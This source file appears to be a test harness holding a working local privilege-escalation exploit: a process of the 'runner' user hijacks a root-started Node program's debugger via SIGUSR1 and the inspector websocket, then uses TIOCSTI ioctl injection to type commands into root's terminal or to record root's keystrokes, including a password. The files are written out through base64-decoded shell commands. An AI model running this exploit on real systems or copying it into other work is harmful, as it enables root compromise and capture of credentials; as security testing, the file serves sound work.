/**
 * What a process of `runner` can do with the terminal of a program that root started as `runner`: it
 * opens the program's inspector, types a command for root's shell, and records what root types later.
 */

/** Where everything is; runner may write there. */
export const PLACE = '/srv/attack';
const PORT = 19_229;

/** A Node program that does nothing against it. */
const VICTIM = `#!/bin/sh
exec node --inspect-port=${PORT} -e '
const { existsSync, writeFileSync } = require("node:fs");
writeFileSync("${PLACE}/run/pid", String(process.pid));
setInterval(() => existsSync("${PLACE}/run/result") && process.exit(), 20);
setTimeout(() => process.exit(1), 30000);'
`;

/** Evaluates code in the process \`argv[2]\`, to attack as \`argv[3]\` says. */
const ATTACKER = `const [pid, way] = process.argv.slice(2);
const { connect } = require('node:net');
const http = require('node:http');
const { writeFileSync } = require('node:fs');
const keys = 'open(T, "<&=", 0); ioctl(T, 0x5412, $_) for split //, "id -u >${PLACE}/run/typed\\\\n"';
const [file, args, stdio] = way === 'type'
  ? ['perl', ['-e', keys], [0, 'ignore', 'ignore']]
  : ['setsid', ['sh', '-c', 'exec cat <&3 >${PLACE}/run/recorded'], ['ignore', 'ignore', 'ignore', 0]];
const options = JSON.stringify({ stdio, detached: way !== 'type' });
const code = 'process.getBuiltinModule("node:child_process").spawn(' + JSON.stringify(file) + ',' +
  JSON.stringify(args) + ',' + options + ').on("error", () => {})';
const sleep = (time) => new Promise((resolve) => setTimeout(resolve, time));
const list = () => new Promise((resolve, reject) => http.get(
  { host: '127.0.0.1', port: ${PORT}, path: '/json' },
  (answer) => {
    let text = '';
    answer.on('data', (data) => { text += data; }).on('end', () => resolve(JSON.parse(text)));
  }).on('error', reject));
(async () => {
  let found;
  for (let tried = 0; tried < 30 && !found; tried += 1) {
    process.kill(pid, 'SIGUSR1');
    await sleep(50);
    found = await list().catch(() => undefined);
  }
  if (!found) return 'closed';
  const { pathname } = new URL(found[0].webSocketDebuggerUrl);
  const socket = connect(${PORT}, '127.0.0.1');
  const lines = ['GET ' + pathname + ' HTTP/1.1', 'Host: 127.0.0.1', 'Upgrade: websocket',
    'Connection: Upgrade', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13'];
  socket.write(lines.join('\\r\\n') + '\\r\\n\\r\\n');
  await new Promise((resolve) => socket.once('data', resolve));
  const params = { expression: code };
  const body = Buffer.from(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params }));
  const head = [0x81, 0x80 | 126, body.length >> 8, body.length & 255, 0, 0, 0, 0];
  socket.write(Buffer.concat([Buffer.from(head), body]));
  await new Promise((resolve) => socket.once('data', resolve));
  await sleep(300);
  socket.destroy();
  return 'inside';
})().catch((error) => error.code).then((result) => writeFileSync('${PLACE}/run/result', result));
`;

/** Arguments: the victim's command line, the way. Prints how far the attacker came. */
const ONCE = `#!/bin/sh
cd /; dir=${PLACE}/run; rm -rf $dir; mkdir $dir; chmod 777 $dir
echo "$1; touch $dir/ended; exec sh -i" >$dir/root.sh
cat >$dir/attack.sh <<END
until [ -s $dir/pid ]; do sleep 0.05; done; exec node ${PLACE}/attacker.cjs \\$(cat $dir/pid) $2
END
setpriv --reuid=runner --regid=runner --init-groups -- timeout 60 sh $dir/attack.sh &
( n=0; until [ -e $dir/ended ] || [ $((n += 1)) -gt 1200 ]; do sleep 0.05; done; sleep 0.3
  for each in 1 2 3 4 5 6; do echo ": a-password-of-root"; sleep 0.05; done
  sleep 0.2; echo exit; sleep 0.2; echo exit; sleep 0.2 ) |
  timeout 90 script -qec "sh $dir/root.sh" $dir/shown >/dev/null 2>&1
wait
echo "$(cat $dir/result) typed=$(cat $dir/typed 2>/dev/null) recorded=$(cat $dir/recorded 2>/dev/null | wc -l)"
`;

const FILES = { 'runner-victim': VICTIM, 'attacker.cjs': ATTACKER, 'once.sh': ONCE };

/** Lays the files out, and the victim beside the executables of the package. */
export const LAY_OUT = [
  `mkdir -p ${PLACE}`,
  ...Object.entries(FILES).map(
    ([name, text]) =>
      `echo ${Buffer.from(text).toString('base64')} | base64 -d >${PLACE}/${name}; chmod 755 ${PLACE}/${name}`,
  ),
  `cp ${PLACE}/runner-victim /usr/lib/runner/bin/`,
  'ln -sfn ../lib/runner/launch /usr/bin/runner-victim',
].join('\n');
